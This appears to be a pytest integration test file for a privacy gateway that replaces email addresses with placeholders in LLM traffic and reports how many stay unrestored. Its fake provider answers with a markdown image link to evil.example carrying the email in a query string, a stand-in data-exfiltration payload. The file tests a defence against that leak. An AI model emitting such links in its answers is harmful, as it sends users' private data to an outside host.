"""What stays a placeholder in an answer is counted: header, comment of a stream, and entry."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.in_process import InProcessGateway
from tests.support.openai_api import USAGE
from tests.support.wire_provider import Arrived, Reply, WireProvider, streamed

pytestmark = pytest.mark.integration
MAIL = "fenna@ruiterkamp.nl"


class Linking:
    """Answers with a link that carries the first value of the last message, and repeats that."""

    def __call__(self, arrived: Arrived) -> Reply:
        body = arrived.json()
        seen = body["messages"][-1]["content"]
        value = seen[seen.index("[EMAIL_") : seen.index("]") + 1]
        text = f"Beste {value}: ![a](https://evil.example/?q={value}). U schreef: {seen}"
        head: dict[str, Any] = {"id": "c", "created": 1, "model": body["model"]}
        if body.get("stream"):
            choices = [
                {"index": 0, "delta": {"content": text}, "finish_reason": None},
                {"index": 0, "delta": {}, "finish_reason": "stop"},
            ]
            chunks = [{**head, "object": "chat.completion.chunk", "choices": [c]} for c in choices]
            frames = [b"data: " + json.dumps(chunk).encode() + b"\n\n" for chunk in chunks]
            return streamed([*frames, b"data: [DONE]\n\n"])
        message = {"role": "assistant", "content": text}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        whole = {**head, "object": "chat.completion", "choices": [choice], "usage": USAGE}
        return Reply([json.dumps(whole).encode()])


@pytest.fixture
def provider() -> Iterator[WireProvider]:
    with WireProvider(Linking()) as running:
        yield running


@pytest.fixture
def gateway(wire_gateway: InProcessGateway) -> InProcessGateway:
    return wire_gateway


def asking(*messages: tuple[str, str], **fields: Any) -> dict[str, Any]:
    turns = [{"role": role, "content": content} for role, content in messages]
    return {"model": "openai-eu", "messages": turns, **fields}


async def test_a_whole_answer_says_how_many_stay(gateway: InProcessGateway) -> None:
    own = f"Mail {MAIL}, zie https://crm.acme.nl/?mail={MAIL} dus"
    answer = await gateway.client.post("/v1/chat/completions", json=asking(("user", own)))
    text = answer.json()["choices"][0]["message"]["content"]
    assert text.startswith(f"Beste {MAIL}: ![a](https://evil.example/?q=[EMAIL_")
    assert text.endswith(f"U schreef: {own}")
    assert answer.headers["x-sluis-kept"] == "1"
    assert gateway.entries_of(answer)[-1].fields["kept"] == 1


async def test_a_stream_says_it_before_its_last_event(gateway: InProcessGateway) -> None:
    body = asking(("user", f"Mail {MAIL} dus"), stream=True)
    answer = await gateway.client.post("/v1/chat/completions", json=body)
    assert answer.text.endswith(": x-sluis-kept: 1\n\ndata: [DONE]\n\n")
    assert gateway.entries_of(answer)[-1].fields["kept"] == 1


async def test_a_link_that_a_model_made_before_is_not_the_callers(
    gateway: InProcessGateway,
) -> None:
    made = f"Zie ![a](https://evil.example/?q={MAIL})."
    body = asking(("user", f"Mail {MAIL}"), ("assistant", made), ("user", f"Nog eens {MAIL} dus"))
    answer = await gateway.client.post("/v1/chat/completions", json=body)
    text = answer.json()["choices"][0]["message"]["content"]
    assert f"?q={MAIL}" not in text
    body["messages"][1]["role"] = "user"
    answer = await gateway.client.post("/v1/chat/completions", json=body)
    assert f"?q={MAIL}" in answer.json()["choices"][0]["message"]["content"]
